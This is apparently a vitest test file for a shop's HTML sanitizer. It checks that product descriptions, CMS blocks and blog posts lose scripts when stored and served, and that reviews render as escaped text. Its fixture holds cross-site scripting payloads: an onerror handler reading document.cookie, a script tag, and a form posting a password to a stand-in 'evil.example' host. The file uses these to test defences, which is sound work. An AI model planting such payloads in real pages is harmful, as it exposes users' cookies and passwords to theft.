import { eq } from 'drizzle-orm';
import { renderToString } from 'react-dom/server';
import { createElement } from 'react';
import { SafeHtml, sanitizeFragment } from '@shop/ui/html';
import { beforeAll, describe, expect, it } from 'vitest';
import * as s from './db/schema';
import { ReviewList } from '../src/features/reviews/components/review-list';
import { setUpTestShop } from './test/helpers';

/** Stored HTML with what must never reach a page: an event handler, a script, a style, a form posting elsewhere. */
const HOSTILE =
  '<p class="kept">Soft <b>cotton</b></p><img src=x onerror="alert(document.cookie)"><script>alert(1)</script>' +
  '<style>body{display:none}</style><form action="https://evil.example/steal"><input name="password"></form>';

/** What the browser's profile (`SafeHtml profile="fragment"`) keeps of it. */
const KEPT = '<p class="kept">Soft <b>cotton</b></p><img src="x">';

function expectNothingExecutable(answer: string) {
  expect(answer).not.toMatch(/onerror/i);
  expect(answer).not.toMatch(/<script>alert|alert\(1\)/);
  expect(answer).not.toMatch(/evil\.example|display:none/);
}

const t = setUpTestShop({ config: { testRoutes: true } });

describe('stored HTML is sanitized when written', () => {
  it('a product entered through the back office keeps its markup and loses its scripts', async () => {
    const [model] = await t.shop.db.select({ urlKey: s.products.urlKey }).from(s.products).where(eq(s.products.type, 'simple')).limit(1);
    const created = await t.client().postJson('/__test/products', { copy_of: model!.urlKey, key: 'stored-xss', name: 'Stored XSS', description: HOSTILE });
    expect(created.status).toBe(200);
    const { id } = (await created.json()) as { id: number };
    const [row] = await t.shop.db.select({ description: s.products.description }).from(s.products).where(eq(s.products.id, id));
    expect(row?.description).toBe(KEPT);
  });

  it('the seeded descriptions, blocks and posts are stored as the sanitizer leaves them', async () => {
    const products = await t.shop.db.select({ html: s.products.description }).from(s.products).orderBy(s.products.id).limit(50);
    const blocks = await t.shop.db.select({ html: s.cmsBlocks.content }).from(s.cmsBlocks);
    const posts = await t.shop.db.select({ html: s.blogPosts.content }).from(s.blogPosts);
    for (const { html } of [...products, ...blocks, ...posts]) expect(sanitizeFragment(html)).toBe(html);
  });
});

describe('stored HTML is sanitized when served, even a row written around the shop', () => {
  let sku: string;
  let urlKey: string;
  let postKey: string;

  beforeAll(async () => {
    // Rows as an import or SQL would leave them: straight into the tables, no sanitizer on the way.
    const [product] = await t.shop.db.select({ id: s.products.id, sku: s.products.sku, urlKey: s.products.urlKey }).from(s.products).where(eq(s.products.type, 'simple')).limit(1);
    await t.shop.db.update(s.products).set({ description: HOSTILE }).where(eq(s.products.id, product!.id));
    sku = product!.sku;
    urlKey = product!.urlKey;
    await t.shop.db.update(s.cmsBlocks).set({ content: HOSTILE }).where(eq(s.cmsBlocks.identifier, 'home-promo'));
    const [post] = await t.shop.db.select({ id: s.blogPosts.id, urlKey: s.blogPosts.urlKey }).from(s.blogPosts).limit(1);
    await t.shop.db.update(s.blogPosts).set({ content: HOSTILE }).where(eq(s.blogPosts.id, post!.id));
    postKey = post!.urlKey;
  });

  it("the product page's answer carries the description as the browser's profile leaves it", async () => {
    const response = await t.client().get(`/${urlKey}.html`);
    expect(response.status).toBe(200);
    const page = await response.text();
    expectNothingExecutable(page);
    expect(page).toContain('Soft \\u003cb>cotton');
  });

  it('the product tab endpoint answers the sanitized description', async () => {
    const response = await t.client().get(`/catalog/product/tab/${encodeURIComponent(sku)}/description`);
    expect(response.status).toBe(200);
    const html = await response.text();
    expectNothingExecutable(html);
    expect(html).toBe(`<div class="product attribute description"><div class="value">${KEPT}</div></div>`);
  });

  it('the CMS block call answers the sanitized block', async () => {
    const response = await t.client().get(`/page_cache/block/render/?blocks=${encodeURIComponent(JSON.stringify(['home-promo']))}`, { 'x-requested-with': 'XMLHttpRequest' });
    expect(response.status).toBe(200);
    const text = await response.text();
    expectNothingExecutable(text);
    expect((JSON.parse(text) as Record<string, string>)['home-promo']).toBe(KEPT);
  });

  it("the blog post page's answer carries the sanitized post", async () => {
    const response = await t.client().get(`/blog/${postKey}`);
    expect(response.status).toBe(200);
    const page = await response.text();
    expectNothingExecutable(page);
    expect(page).toContain('Soft \\u003cb>cotton');
  });

  it('SafeHtml renders the sanitized markup on the server (not inert text): the page has it in its first paint', () => {
    const html = renderToString(createElement(SafeHtml, { html: HOSTILE, profile: 'fragment' }));
    expect(html).toBe(`<div data-slot="safe-html" data-profile="fragment">${KEPT}</div>`);
  });
});

describe('reviews are plain text, never HTML', () => {
  it('are stored as typed and rendered as text: markup in a review shows as its characters', async () => {
    const [product] = await t.shop.db.select({ id: s.products.id }).from(s.products).where(eq(s.products.type, 'configurable')).limit(1);
    expect(await t.shop.reviews.submit(product!.id, { nickname: '<b>Sam</b>', title: 'Nice <i>fit</i>', detail: HOSTILE, rating: 5 }, null)).toBe(true);
    const [row] = await t.shop.db.select().from(s.productReviews).where(eq(s.productReviews.nickname, '<b>Sam</b>'));
    // Text is not HTML: nothing to sanitize, it is kept exactly (and escaped wherever it is shown).
    expect(row?.text).toBe(HOSTILE);
    // New reviews wait for moderation: a moderator publishes it.
    expect(await t.shop.reviewModeration.updateStatus([row!.id], 'approved', { actor: null })).toBe(1);

    const page = await t.shop.reviews.page(product!.id, 1);
    const html = renderToString(createElement(ReviewList, { initial: page, loadPage: async () => page }));
    expect(html).not.toMatch(/<img|<script|<style|<form|<b>Sam|<i>fit/);
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(document.cookie)&quot;&gt;');
    expect(html).toContain('&lt;b&gt;Sam&lt;/b&gt;');
  });
});
